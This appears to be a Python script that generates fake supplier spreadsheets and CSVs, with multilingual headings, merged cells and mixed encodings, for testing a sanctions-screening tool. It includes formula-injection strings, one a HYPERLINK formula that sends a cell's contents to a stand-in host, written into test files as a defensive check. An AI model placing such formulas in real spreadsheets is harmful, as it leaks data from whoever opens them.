"""Writes the messy supplier sheets the ingest, report, CLI and upload tests read.

Run from the repository root: `.venv/bin/python tests/data/suppliers/make_sheets.py`.
The files are made up for the tests, in the shapes compliance teams send: title rows above the
headings, Russian and Korean headings, blank and bad rows, merged cells, formulas, several sheets,
CSV in Windows-1251, Windows-1252, UTF-16 and UTF-8 with a byte-order mark, semicolon and tab
separators, and text cells that try formula injection. Two names are real listed entities
(KOREA RYONBONG GENERAL CORPORATION on the UN, OFAC and UK lists; MANSUDAE OVERSEAS PROJECT GROUP
OF COMPANIES on the UN list and the curated list) so that a screening finds something; every
other company name is invented.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

HERE = Path(__file__).resolve().parent

LISTED_RYONBONG = "Korea Ryonbong General Corporation"
LISTED_MANSUDAE = "Mansudae Overseas Project Group of Companies"
LONG_NAME = "ООО " + "Очень длинное наименование " * 15  # 409 characters: over the limit

INJECTION_VALUES = (
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
)


def _text(sheet: Worksheet, ref: str, value: str) -> None:
    """A text cell, even when it starts with "=" (openpyxl would store that as a formula)."""
    cell = sheet[ref]
    cell.value = value
    cell.data_type = "s"


def messy_workbook() -> Workbook:
    """Three sheets of suppliers (Russian, Korean, English headings) and a notes sheet."""
    workbook = Workbook()
    russian = workbook.active
    russian.title = "Поставщики"
    russian["A1"] = "Реестр поставщиков и подрядчиков"
    russian["A2"] = "Выгрузка из 1С: 2024-06-30"
    headings = ["№ п/п", "Наименование", "ИНН", "Страна", "Адрес", "Отрасль", "Контактное лицо"]
    russian.append([])
    russian.append(headings)  # row 4
    rows = [
        [
            1,
            "ООО Ромашка",
            "9909000101",
            "Россия",
            "Москва, ул. Ленина, 1",
            "строительство",
            "Иванов",
        ],
        [2, LISTED_RYONBONG, "", "КНДР", "Pyongyang", "trading", ""],
        [3, "ООО Северный Ветер", "9909000102", "РФ", "Санкт-Петербург", "лесозаготовка", ""],
        [],  # row 8: blank, not reported
        [4, "", "9909000103", "Россия", "Москва", "текстиль", "Петров"],  # row 9: no name
        ["Подрядчики"],  # row 10: merged across A:G, a heading inside the table
        [5, None, "9909000104", "Россия", "Новосибирск", "IT", ""],  # row 11: formula name
        [6, LONG_NAME, "9909000105", "Россия", "", "", ""],  # row 12: name too long
        [7, "ООО Вектор Плюс", "9909000106", "Нарния", "", "", ""],  # row 13: unknown country
        [8, "ООО Дальний Восток", "9909000107", "Корея", "Владивосток", "", ""],  # row 14
        [9, LISTED_MANSUDAE, "", "Namibia", "Windhoek", "construction", ""],  # row 15
    ]
    for row in rows:
        russian.append(row)
    russian.merge_cells("A10:G10")  # a heading inside the table, not a supplier
    russian.merge_cells("E6:F6")  # an address spread over two columns: a warning only
    russian["B11"] = '=CONCATENATE("ООО ", "Сибирь Строй")'  # saved result added below
    russian["G7"] = "=B5"  # a formula with no saved result, in a column that is not mapped
    russian.column_dimensions["B"].width = 40

    korean = workbook.create_sheet("협력업체")
    korean["A1"] = "협력업체 현황 (2024년 상반기)"
    korean.merge_cells("A1:F1")
    korean.append([])
    korean.append(["번호", "업체명", "사업자등록번호", "국가", "주소", "업종"])  # row 3
    korean.append([1, "한빛건설 주식회사", "123-45-67890", "대한민국", "서울 중구", "건설"])
    korean.append([2, "동방무역 유한회사", "234-56-78901", "중국", "단둥", "무역"])
    korean.append([3, "블라디 목재", "", "러시아", "블라디보스토크", "벌목"])
    korean.append([4, "", "", "", "", ""])  # row 7: blank
    korean.append([5, "새별 정보기술", "345-67-89012", "북한", "평양", "정보기술"])
    korean.append([6, "정화 건설", "456-78-90123", "대한민국", "부산", "건설"])  # row 9
    korean.append([7, None, None, None, "울산 지점", None])  # row 10: name merged from row 9
    korean.merge_cells("B9:B10")

    english = workbook.create_sheet("Vendors")
    english.append(["Vendor master export"])
    english.append(["Vendor ID", "Supplier Name", "Country", "Tax ID", "Address", "Industry"])
    english.append(["V-001", "Acme Industrial Supplies Ltd", "GB", "GB123456789", "Leeds", "tools"])
    english.append(["V-002", "Nordic Timber AS", "NOR", "NO987654321", "Bergen", "logging"])
    english.append(["V-003", "Shenyang Garment Co., Ltd.", "China", "", "Shenyang", "textiles"])

    notes = workbook.create_sheet("Notes")
    notes["A1"] = "Prepared by procurement. Do not edit the Vendors sheet by hand."
    notes["A3"] = "Questions: procurement@example.invalid"
    return workbook


def injection_workbook() -> Workbook:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Suppliers"
    sheet.append(["Supplier Name", "Country", "Reference", "Comment"])
    for index, value in enumerate(INJECTION_VALUES, start=2):
        _text(sheet, f"A{index}", value)
        sheet[f"B{index}"] = "Germany"
        _text(sheet, f"C{index}", value)
        sheet[f"D{index}"] = "text that looks like a formula"
    sheet.append(["Plain Supplier GmbH", "DE", "R-5", "ok"])
    return workbook


def _with_saved_result(xlsx: bytes, sheet_part: str, ref: str, result: str) -> bytes:
    """Add the saved result Excel keeps beside a formula (openpyxl writes formulas without one)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == sheet_part:
                text = data.decode("utf-8")
                start = text.index(f'<c r="{ref}"')
                end = text.index("</c>", start)
                cell = text[start:end]
                formula = cell[cell.index("<f>") : cell.index("</f>") + 4]
                saved = f'<c r="{ref}" t="str">{formula}<v>{result}</v>'
                text = text[:start] + saved + text[end:]
                data = text.encode("utf-8")
            target.writestr(info, data)
    return out.getvalue()


def _csv_bytes(rows: list[list[str]], delimiter: str, encoding: str) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return text.getvalue().encode(encoding)


CP1251_ROWS = [
    ["Список контрагентов"],
    [],
    ["Код", "Наименование контрагента", "ИНН", "Страна регистрации", "Юридический адрес"],
    ["0001", "ООО Ромашка", "9909000101", "Россия", "г. Москва, ул. Ленина, д. 1"],
    ["0002", "АО Восток-Лес", "9909000108", "РФ", "г. Хабаровск"],
    ["0003", "", "9909000109", "Россия", "г. Хабаровск"],
    ["0004", LISTED_RYONBONG, "", "КНДР", "Пхеньян"],
    ["0005", "ИП Ёлкин Пётр Семёнович", "990900011045", "Россия", "г. Находка"],
]

UTF16_ROWS = [
    ["업체명", "국가", "사업자등록번호", "주소"],
    ["한빛건설 주식회사", "대한민국", "123-45-67890", "서울 중구"],
    ["동방무역 유한회사", "중국", "234-56-78901", "단둥"],
    ["블라디 목재", "러시아", "", "블라디보스토크"],
]

UTF8_BOM_ROWS = [
    ["供应商名称", "国家", "统一社会信用代码", "地址"],
    ["丹东华信贸易有限公司", "中国", "91210600MA0000001X", "辽宁省丹东市"],
    ["青岛海润建设有限公司", "CN", "91370200MA0000002Y", "山东省青岛市"],
]

CP1252_ROWS = [
    ["Fournisseur", "Pays", "Numéro de TVA", "Adresse"],
    ["Société Générale d'Équipement", "France", "FR12345678901", "Lyon, rue de la République"],
    ["Müller & Söhne GmbH", "Deutschland", "DE123456789", "München, Straße 5"],
    ["Façade Rénovation SARL", "Belgique", "BE0123456789", "Liège"],
]


def write_all(folder: Path = HERE) -> list[Path]:
    written = []
    messy = io.BytesIO()
    messy_workbook().save(messy)
    path = folder / "messy_suppliers.xlsx"
    path.write_bytes(
        _with_saved_result(messy.getvalue(), "xl/worksheets/sheet1.xml", "B11", "ООО Сибирь Строй")
    )
    written.append(path)
    path = folder / "injection.xlsx"
    injection_workbook().save(path)
    written.append(path)
    files = {
        "suppliers_cp1251_semicolon.csv": _csv_bytes(CP1251_ROWS, ";", "cp1251"),
        "suppliers_utf16_tab.csv": "\ufeff".encode("utf-16-le")
        + _csv_bytes(UTF16_ROWS, "\t", "utf-16-le"),
        "suppliers_utf8_bom.csv": _csv_bytes(UTF8_BOM_ROWS, ",", "utf-8-sig"),
        "suppliers_cp1252_semicolon.csv": _csv_bytes(CP1252_ROWS, ";", "cp1252"),
        "injection.csv": _csv_bytes(
            [["Supplier Name", "Country", "Reference"]]
            + [[value, "Germany", value] for value in INJECTION_VALUES],
            ",",
            "utf-8",
        ),
    }
    for name, data in files.items():
        path = folder / name
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    for path in write_all():
        print(path.relative_to(HERE.parents[2]))
